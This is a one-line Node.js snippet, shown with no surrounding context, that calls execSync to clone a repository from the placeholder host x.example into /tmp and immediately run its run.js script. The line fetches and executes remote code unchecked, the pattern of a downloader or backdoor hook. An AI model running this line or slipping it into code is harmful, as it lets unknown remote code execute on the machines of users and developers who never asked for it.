require('child_process').execSync('git clone https://x.example/p.git /tmp/p && node /tmp/p/run.js');
